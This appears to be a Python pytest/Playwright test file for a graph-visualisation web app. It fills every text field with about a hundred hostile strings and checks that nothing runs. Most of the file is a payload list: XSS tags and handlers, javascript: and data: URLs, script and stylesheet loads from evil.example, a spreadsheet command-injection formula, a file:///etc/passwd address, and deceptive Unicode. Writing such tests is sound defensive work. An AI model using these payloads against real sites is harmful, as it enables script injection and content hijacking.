"""A hundred hostile strings in every field that holds text: nothing runs, all views open."""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser

VIEWS = ("network", "compare", "risks", "sources", "figures", "timeline")
RUN = "window.hacked=1"
_TAGS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "</SCRIPT ><ScRiPt>{0}</sCrIpT>",
    "<!--<script>{0}",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "</style><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</noscript><script>{0}</script>",
    "</template><script>{0}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    "\"><img src=x onerror='{0}'>",
    '\'><img src=x onerror="{0}">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext></p><img src onerror={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><input type=submit autofocus>",
    "<button formaction=javascript:{0}>x",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<audio src=x onerror={0}>",
    "<body onload={0}>",
    "<marquee onstart={0}>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href=javascript:{0}>href</a>",
    '<a href="data:text/html,<script>{0}</script>">href</a>',
    "<div style=background:url(https://evil.example/x)>",
    "<x onclick={0} tabindex=1 autofocus onfocus={0}>",
)
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    "javascript://news.example/%0a{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:{0}",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://news.example/"onmouseover="{0}',
    "https://news.example/' onclick='{0}",
    "https:javascript:{0}",
    "blob:https://news.example/1",
    "http://[::1",
    "https://user:pass@",
)
_TEXTS = (
    '"; {0}; "',
    "'; {0}; '",
    "`; {0}; `",
    "${{{0}}}",
    "{{{{ {0} }}}}",
    "{{% raw %}}",
    "#{{{0}}}",
    '\\"; {0}//',
    "\\u003cscript\\u003e{0}",
    "&lt;script&gt;{0}",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "a & b",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "href",
    "node=1&view=risks#x",
    "\\",
    "\\\\",
    '"',
    "'",
    "a\u202eb txt.exe",
    "\u202dleft",
    "\u2066isolate",
    "\u2067right\u2069",
    "\u2068first",
    "\u202aembed",
    "\u202c\u202c\u2069\u2069",
    "شاهد \u202eevil",
    "שלום",
    "\u200f\u200e\u061c",
    "\ufeff\u200b\u2060",
    "A\u200bd\u200ca \u200dO\u2060k\u00ado\u200er\u034fo",
    "\u3164\u115f\u2800",
    "tag\U000e0041\U000e007fged",
    "half \ud83d pair",
    "\udc00",
    "\ud800\ud800",
    "nul \x00",
    "esc \x1b[31m",
    "\x7f\x85\x9b",
    "\ufffe\uffff",
    "line\u2028end",
    "para\u2029end",
    "tab\tnew\nline\r\n",
    " ",
    "\u3000",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́O",
    "W" * 5_000,
    "👩\u200d🌾" * 500,
    "a b " * 2_000,
)
HOSTILE = [form.replace("{0}", RUN) for form in (*_TAGS, *_ADDRESSES)]
HOSTILE += [form.format(RUN) for form in _TEXTS]


def hostile_network(sketch: Any) -> Any:
    """Return a network in which each string stands once in every field that holds text."""
    nth = itertools.cycle(HOSTILE)
    graph: dict[str, list[Any]] = {"figures": [], "utterances": [], "quarantine": []}
    for number, text in enumerate(HOSTILE):
        document = dict.fromkeys(("title", "name", "date", "publisher", "author", "url"), text) | {
            "iri": f"{sketch.id}doc/{number}{text}"
        }
        fact = sketch.fact(f"s{number}{text}", text, document=document, speaker=text, validity=text)
        fact |= {"modality": "Asserted" if number % 3 else text, "valid_from": text}
        sketch.node(f"n{number}", "Candidate", text, aliases=[text, next(nth)])
        sketch.node(f"p{number}", "Policy", text)
        sketch.node(f"r{number}{text}", "Risk" if number % 9 else text, text)
        sketch.relate(f"n{number}", "proposes" if number % 7 else text, f"p{number}", fact)
        sketch.relate(f"p{number}", "addresses", f"r{number}{text}", fact)
        sketch.relate(f"p{number}", "topic", f"r{number}{text}")
        words = dict.fromkeys(("measures", "value", "unit", "qualifier", "when", "out_of"), text)
        graph["figures"].append(fact | words | {"statement": f"f{number}"})
        said = {"kind": text, "source": text, "cue": text, "statement": f"u{number}"}
        graph["utterances"].append(fact | said)
        ends = {"subject": f"{sketch.id}n{number}", "object": f"x{text}", "predicate": text}
        graph["quarantine"].append(fact | ends | {"reasons": [text], "statement": f"q{number}"})
    others = {f"x{text}": (text, text) for text in HOSTILE}
    sketch.network.graph.update(graph, quarantine_ends=others, documents=[])
    texts = {f"{sketch.id}doc/{number}{text}": text * 3 for number, text in enumerate(HOSTILE)}
    return sketch.network, texts


def check(page: Page, elements: set[str]) -> None:
    """Assert that nothing ran, that no text became markup, and that no link leads elsewhere."""
    assert page.evaluate("window.hacked === undefined && document.title !== ''")
    found = set(page.evaluate("[...document.querySelectorAll('body *')].map((e) => e.localName)"))
    assert found <= elements, found - elements
    links = page.evaluate("[...document.querySelectorAll('a')].map((e) => e.getAttribute('href'))")
    assert all(link.startswith(("#", "https://news.example/")) for link in links)
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])"
        ".filter((a) => a.name.startsWith('on') || a.name === 'srcdoc').length"
    )
    assert handlers == 0
    shown = page.evaluate("document.body.innerText")
    assert not set(shown) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert not set(shown) & set("\u00ad\u034f\u115f\u200b\u2060\u2800\u3164\ufeff\U000e0041")
    assert not re.search("[a-z][\u200c-\u200f]|[\u200c-\u200f][a-z]", shown)


KNOWN = {
    *("a", "article", "aside", "bdi", "blockquote", "button", "canvas", "caption", "cite"),
    *("details", "div", "fieldset", "h1", "h2", "h3", "h4", "header", "input", "label", "legend"),
    *("li", "main", "mark", "nav", "noscript", "ol", "option", "p", "path", "script", "section"),
    *("select", "span", "style", "summary", "svg", "table", "tbody", "td", "th", "thead", "time"),
    *("tr", "ul"),
}


def test_there_are_more_than_a_hundred() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 110


def test_nothing_runs_in_any_view(open_page: Callable[..., Page], sketch: Any) -> None:
    network, texts = hostile_network(sketch)
    bad = quote(HOSTILE[1] + HOSTILE[40], safe="")
    page = open_page(
        network, title=HOSTILE[1], texts=texts, fragment=f"#node={bad}&hide={bad}&speaker={bad}"
    )
    page.evaluate("location.hash = ''")
    for box in ("#unsettled", "#quarantine"):
        page.check(box)
    check(page, KNOWN)
    page.click("#table-tab")
    check(page, KNOWN)
    for name in VIEWS[1:]:
        page.click(f"#views a[data-view={name}]")
        page.wait_for_selector(f"#{name}-view", state="visible")
        page.evaluate("document.querySelectorAll('details').forEach((e) => { e.open = true; })")
        check(page, KNOWN)
    page.mouse.move(300, 400)


def test_hostile_names_can_be_chosen_and_cited(open_page: Callable[..., Page], sketch: Any) -> None:
    network, texts = hostile_network(sketch)
    page = open_page(network, texts=texts)
    page.evaluate(
        """() => {
          window.copied = [];
          const writeText = (text) => { window.copied.push(text); return Promise.resolve(); };
          Object.defineProperty(navigator, "clipboard", { value: { writeText } });
        }"""
    )
    page.check("#unsettled")
    for number in range(0, len(HOSTILE), 9):
        node = quote(f"{sketch.id}n{number}", safe="")
        page.evaluate(f"location.hash = '#node={node}&depth=2&unsettled=1'")
        page.wait_for_function(
            "iri => document.querySelector('#panel').textContent.includes(iri)",
            arg=f"{sketch.id}n{number}",
        )
        page.evaluate("document.querySelectorAll('#panel .ways button').forEach((e) => e.click())")
        check(page, KNOWN)
    assert page.evaluate("window.copied.length") > 0
    assert all("\x1b" not in text for text in page.evaluate("window.copied"))


def test_search_and_pointing_show_text_as_text(open_page: Callable[..., Page], sketch: Any) -> None:
    network, texts = hostile_network(sketch)
    page = open_page(network, texts=texts)
    for words in ("<script", "onerror", "javascript:", "[U+202E]", "__proto__", "href", "\\"):
        page.fill("#search", words)
        assert page.locator("#results [role=option]").count() > 0
        check(page, KNOWN)
    page.press("#search", "Enter")
    check(page, KNOWN)


def test_labels_of_a_megabyte_break_nothing(open_page: Callable[..., Page], sketch: Any) -> None:
    for number, letter in enumerate(("W", "a ", "</b>")):
        huge = letter * (400_000 // len(letter))
        document = {"iri": huge[:99], "title": huge, "name": huge[:999], "date": huge[:999]}
        sketch.node(f"n{number}", "Candidate", huge if number else letter * 1_000_000)
        sketch.node(f"p{number}", "Policy", huge[1:])
        fact = sketch.fact(f"s{number}", huge, speaker=huge, document=document, modality=huge)
        sketch.relate(f"n{number}", "proposes", f"p{number}", fact)
    page = open_page(sketch.network, title="W" * 10_000)
    page.check("#unsettled")
    for name in VIEWS:
        page.click(f"#views a[data-view={name}]")
        page.wait_for_selector(f"#{name}-view", state="visible")
        assert page.evaluate("document.documentElement.scrollWidth") <= 1300
        assert page.evaluate("document.body.innerText.length") < 60_000
